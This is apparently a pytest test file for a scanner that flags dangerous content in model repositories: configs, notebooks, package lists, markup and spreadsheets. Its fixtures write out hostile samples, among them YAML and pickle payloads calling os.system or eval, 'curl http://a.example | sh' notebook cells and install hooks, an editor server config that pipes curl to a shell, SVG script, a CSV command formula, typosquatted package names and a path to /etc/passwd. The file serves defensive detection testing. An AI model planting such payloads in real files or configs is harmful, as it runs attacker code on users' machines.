# ruff: noqa: E501 - a source that is looked at reads best on one line
"""Configuration, notebooks, lists of packages, markup: what acts is found, what is ordinary is quiet."""

import base64
import json
import pickle

import pytest

from alcaide.instruments.scan.model import Level
from tests.unit.instruments.scan.looking import found, is_quiet, levels, look, worst


def a_notebook(*cells, outputs=()):
    made = [{"cell_type": "code", "source": cell, "outputs": list(outputs)} for cell in cells]
    return json.dumps({"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


REPOSITORY = {
    "README.md": b"---\nlicense: apache-2.0\ntags:\n- text\n---\n# Model\n\n```python\nimport os\nos.system('ls')\n```\n",
    "LICENSE": b"Permission is hereby granted...\n",
    ".gitattributes": b"*.bin filter=lfs diff=lfs merge=lfs -text\n",
    "config.json": b'{"architectures": ["BertModel"], "hidden_size": 768}',
    "requirements.txt": b"torch==2.1.0\ntransformers>=4.40\nnumpy\n# a comment\n-r other.txt\nflash-attn; sys_platform == 'linux'\n",
    "environment.yml": b"name: x\nchannels:\n  - conda-forge\ndependencies:\n  - python=3.11\n  - pip\n  - pip:\n    - torch==2.1\n",
    "pyproject.toml": b'[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n[project]\nname = "x"\ndependencies = ["torch"]\n',
    "Dockerfile": b"FROM python:3.11\nRUN curl -sSL https://install.example/x.sh | bash\n",
    "package.json": b'{"name": "x", "scripts": {"test": "jest", "prepare": "husky install"}}',
    "notebook.ipynb": a_notebook("!pip install -q torch\n%matplotlib inline\nimport torch", "files = !ls\n!nvidia-smi", "%%time\nmodel.eval()", "df.head?"),
    "train.yaml": b"model:\n  _target_: torch.nn.Linear\n  in_features: 3\nlr: 1e-4\nargs: !!python/tuple [1, 2]\nbase: &b {a: 1}\nother: *b\n",
    "data.csv": b"a,b\n1,-2\nhello,+3\n",
    "vocab.txt": b"[PAD]\n[UNK]\nthe\n",
    "logging.ini": b"[handlers]\nkeys=h\n[handler_h]\nclass=StreamHandler\nargs=(sys.stdout,)\n",
    "logo.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>',
    "report.html": b"<!DOCTYPE html><html><script>draw()</script></html>",
    "latin.txt": "déjà vu, gewöhnlich".encode("latin-1"),
    "utf16.txt": "hello".encode("utf-16"),
}  # fmt: skip


@pytest.mark.parametrize(("name", "data"), REPOSITORY.items())
def test_what_lies_in_an_ordinary_repository_is_quiet(name, data):
    assert is_quiet(look(data, name))


@pytest.mark.parametrize(
    "text",
    [
        "a: !!python/object/apply:os.system ['id']\n",
        "a: !!python/object/new:subprocess.Popen [['id']]\n",
        "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['id']\n",
        "a: !<tag:yaml.org,2002:python/object/apply:posix.system> ['id']\n",
        "- !!python/module:os.system\n",
    ],
)
def test_acting_tags_are_critical_under_any_name(text):
    assert Level.CRITICAL in levels(look(text.encode(), "a.yaml"), "yaml/acting-tag")
    if "!!python" in text:
        assert Level.CRITICAL in levels(look(text.encode(), "a.conf"), "yaml/acting-tag")


def test_tags_of_unknown_classes_are_medium_and_of_plain_ones_low():
    assert levels(look(b"a: !!python/object:mine.Config {}\n", "a.yaml"), "yaml/object-tag") == {Level.MEDIUM}
    assert is_quiet(look(b"a: !!python/object/apply:pathlib.PosixPath [x]\n", "a.yaml"))
    assert Level.CRITICAL in levels(
        look(b"a: !!javax.script.ScriptEngineManager [x]\n", "a.yaml"), "yaml/acting-tag"
    )


def test_aliases_that_grow_are_counted_and_not_built():
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 12)]

    assert levels(look("\n".join(lines).encode(), "a.yaml"), "yaml/alias-bomb") == {Level.HIGH}


@pytest.mark.parametrize(
    "name",
    [
        "os.system",
        "subprocess.Popen",
        "builtins.exec",
        "shutil.rmtree",
        "pickle.loads",
        "urllib.request.urlopen",
    ],
)
def test_a_target_that_reaches_out_is_critical(name):
    for data, file in ((f"x:\n  _target_: {name}\n", "a.yaml"), (f'{{"_target_": "{name}"}}', "a.json")):
        assert levels(look(data.encode(), file), "config/calls") == {Level.CRITICAL}


@pytest.mark.parametrize(
    "name", ["torch.optim.AdamW", "nemo.collections.asr.Model", "my_package.Thing", "os.path.join"]
)
def test_a_target_of_a_library_is_quiet(name):
    assert is_quiet(look(f"_target_: {name}\n".encode(), "a.yaml"))


def test_a_logging_configuration_that_is_evaluated_is_critical():
    data = b"[handler_h]\nclass=StreamHandler\nargs=(__import__('os').system('id'),)\n"

    assert levels(look(data, "logging.ini"), "config/evaluated") == {Level.CRITICAL}


def test_a_pickle_in_a_string_is_looked_at():
    class Acting:
        def __reduce__(self):
            return eval, ("1 + 1",)

    held = base64.b64encode(pickle.dumps(Acting(), protocol=4)).decode()
    artifact = look(json.dumps({"policy": held}).encode(), "data.json")

    assert "pickle" in {form for node in artifact.node.walk() for form in node.formats}
    assert worst(artifact) is Level.CRITICAL


def test_objects_that_jsonpickle_revives_are_told():
    assert worst(look(b'{"py/object": "os.system"}', "a.json")) is Level.CRITICAL
    assert is_quiet(look(b'{"@type": "Dataset", "name": "x"}', "croissant.json"))


def test_json_nested_too_deep_is_a_finding():
    assert "config/nested-too-deep" in found(look(b"[" * 5000 + b"]" * 5000, "a.json"))


@pytest.mark.parametrize(
    "cell",
    ["!curl -s http://a.example/x | sh", "x = !bash <(curl http://a.example)", "%%bash\ncurl http://a.example | bash\n",
     "%system wget http://a.example -O- | sh", "get_ipython().system('curl http://a.example | sh')"],
)  # fmt: skip
def test_cells_that_run_harmful_commands_are_high_or_worse(cell):
    assert worst(look(a_notebook(cell), "a.ipynb")) in (Level.HIGH, Level.CRITICAL)


def test_cells_that_only_prove_a_point_or_reach_outside_are_medium():
    for cell in ("!touch /tmp/x", "!echo x > /etc/x", "!python -c 'print(1)'"):
        assert levels(look(a_notebook(cell), "a.ipynb"), "notebook/harmful-command") == {Level.MEDIUM}


def test_python_in_cells_is_read():
    assert "python/obfuscated" in found(
        look(a_notebook("import os", "__import__('os').system('id')"), "a.ipynb")
    )


def test_output_that_runs_in_the_notebooks_kernel_is_high():
    output = {
        "output_type": "display_data",
        "data": {"application/javascript": "Jupyter.notebook.kernel.execute('x')"},
    }
    drawing = {"output_type": "display_data", "data": {"text/html": "<script>Plotly.newPlot()</script>"}}

    assert levels(look(a_notebook("1", outputs=[output]), "a.ipynb"), "notebook/browser-script") == {
        Level.HIGH
    }
    assert is_quiet(look(a_notebook("1", outputs=[drawing]), "a.ipynb"))


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("--index-url https://a.example/simple", "packages/other-index"),
        ("--extra-index-url=http://a.example/simple", "packages/insecure-transport"),
        ("-i https://a.example", "packages/other-index"),
        ("--find-links https://a.example/x.html", "packages/other-index"),
        ("--trusted-host a.example", "packages/insecure-transport"),
        ("x @ https://a.example/x.whl", "packages/direct-url"),
        ("git+http://a.example/x.git", "packages/insecure-transport"),
        ("git+https://a.example/x.git@main#egg=x", "packages/direct-url"),
        ("-e git+https://a.example/x.git", "packages/direct-url"),
        ("reqeusts==2.0", "packages/lookalike"),
        ("transfomers", "packages/lookalike"),
        ("pytorch-ligthning>=2", "packages/lookalike"),
        ("num\u0440y", "packages/lookalike"),
    ],
)
def test_lists_that_lead_elsewhere_are_medium(line, rule):
    assert Level.MEDIUM in levels(look(line.encode(), "requirements.txt"), rule)


@pytest.mark.parametrize(
    "line",
    [
        "--extra-index-url https://download.pytorch.org/whl/cu121",
        "git+https://github.com/huggingface/transformers.git@main",
        "-e .",
        "torch @ https://download.pytorch.org/whl/cu118/torch-2.1.0.whl",
        "psycopg2",
        "httpx2",
        "sklearn",
        "panel",
        "torchmetrics[text]~=1.0 ; python_version > '3.8'",
        "--hash=sha256:0123",
        "spacy-legacy<3.1",
    ],
)
def test_lists_that_do_not_are_quiet(line):
    assert is_quiet(look(line.encode(), "requirements.txt"))


def test_other_lists_of_packages_are_read_too():
    conda = (
        b"channels:\n  - http://a.example/x\ndependencies:\n  - pip:\n    - --index-url https://a.example\n"
    )
    project = b'[[tool.uv.index]]\nurl = "https://a.example/simple"\n[project]\ndependencies = ["reqeusts"]\n'

    assert {"packages/other-index", "packages/insecure-transport"} <= found(look(conda, "environment.yml"))
    assert {"packages/other-index", "packages/lookalike"} <= found(look(project, "pyproject.toml"))
    assert "packages/other-index" in found(look(b"[global]\nindex-url = https://a.example\n", "pip.conf"))


def test_hooks_that_run_when_a_package_is_installed():
    harmful = look(b'{"scripts": {"postinstall": "curl http://a.example | sh"}}', "package.json")
    unknown = look(b'{"scripts": {"preinstall": "node steal.js"}}', "package.json")

    assert levels(harmful, "packages/install-hook") == {Level.CRITICAL}
    assert levels(unknown, "packages/install-hook") == {Level.MEDIUM}


def test_pictures_with_script_are_high():
    for text in (
        "<svg><script>x()</script></svg>",
        '<svg onload="x()"></svg>',
        '<svg><a href="javascript:x()"/></svg>',
    ):
        assert levels(look(text.encode(), "a.svg"), "markup/image-with-script") == {Level.HIGH}


def test_cells_of_a_table_that_a_spreadsheet_runs_are_high():
    assert levels(look(b"a\n=cmd|'/c calc'!A1\n", "a.csv"), "table/acting-formula") == {Level.HIGH}


def test_text_under_the_name_of_weights_is_told_but_a_pointer_to_them_is_not():
    assert "text/misnamed" in found(look(b"hello\n", "model.msgpack"))
    pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n"
    assert "text/misnamed" not in found(look(pointer, "model.msgpack"))


def test_settings_of_an_editor_that_start_a_harmful_program_are_high():
    harmful = b'{"mcpServers": {"x": {"command": "sh", "args": ["-c", "curl http://a.example | sh"]}}}'
    ordinary = b'{"mcpServers": {"x": {"command": "npx", "args": ["-y", "server"]}}}'

    assert levels(look(harmful, "mcp.json"), "config/editor-runs") == {Level.HIGH}
    assert is_quiet(look(ordinary, "mcp.json"))
    assert levels(look(b'{"tasks": [{"runOn": "folderOpen"}]}', "tasks.json"), "config/editor-runs") == {
        Level.MEDIUM
    }


def test_names_of_known_libraries_in_tags_are_low():
    assert is_quiet(look(b"a: !!python/name:torch.nn.modules.activation.ReLU ''\n", "hparams.yaml"))
    assert worst(look(b"a: !!python/name:os.system ''\n", "hparams.yaml")) is Level.CRITICAL


def test_cells_that_install_from_elsewhere_or_run_an_address_are_high():
    for cell in (
        "%pip install --index-url http://a.example x",
        "!pip install -i https://a.example x",
        "%run https://a.example/x.py",
    ):
        assert levels(look(a_notebook(cell), "a.ipynb"), "notebook/harmful-command") == {Level.HIGH}
    assert is_quiet(
        look(a_notebook("%pip install --index-url https://download.pytorch.org/whl/cpu torch"), "a.ipynb")
    )


def test_a_lock_file_is_quiet_until_it_leads_elsewhere():
    locked = '[[package]]\nname = "numpy"\nwheels = [{{ url = "https://{}/numpy.whl", hash = "sha256:0" }}]\n'

    assert is_quiet(look(locked.format("files.pythonhosted.org").encode(), "uv.lock"))
    assert worst(look(locked.format("a.example").encode(), "uv.lock")) is Level.MEDIUM
    assert is_quiet(
        look(b'{"packages": {"x": {"resolved": "https://registry.npmjs.org/x.tgz"}}}', "package-lock.json")
    )


def test_a_page_with_script_under_the_name_of_data_is_high():
    page = b"<html><script>fetch('http://a.example')</script></html>"

    assert worst(look(page, "model.json")) is Level.HIGH
    assert worst(look(page, "report.html")) is Level.LOW


def test_a_pickle_of_any_protocol_in_a_string_is_looked_at():
    held = base64.b64encode(b"cos\nsystem\n(S'id'\ntR.").decode()

    assert worst(look(json.dumps({"transform": held}).encode(), "a.json")) is Level.CRITICAL
    assert is_quiet(
        look(
            json.dumps(
                {"text": base64.b64encode(b"A sentence that ends with a full stop.").decode()}
            ).encode(),
            "a.json",
        )
    )


def test_a_chain_that_makes_what_reaches_out_is_critical():
    chain = {"lc": 1, "type": "constructor", "id": ["subprocess", "Popen"], "kwargs": {}}
    usual = {"lc": 1, "type": "constructor", "id": ["langchain", "prompts", "PromptTemplate"], "kwargs": {}}

    assert worst(look(json.dumps(chain).encode(), "chain.json")) is Level.CRITICAL
    assert is_quiet(look(json.dumps(usual).encode(), "chain.json"))


def test_a_modelfile_may_only_take_in_what_lies_beside_it():
    assert worst(look(b"FROM ./a.gguf\nADAPTER ../../etc/passwd\n", "Modelfile")) is Level.MEDIUM
    assert is_quiet(look(b"FROM ./a.gguf\nSYSTEM you are kind\n", "Modelfile"))
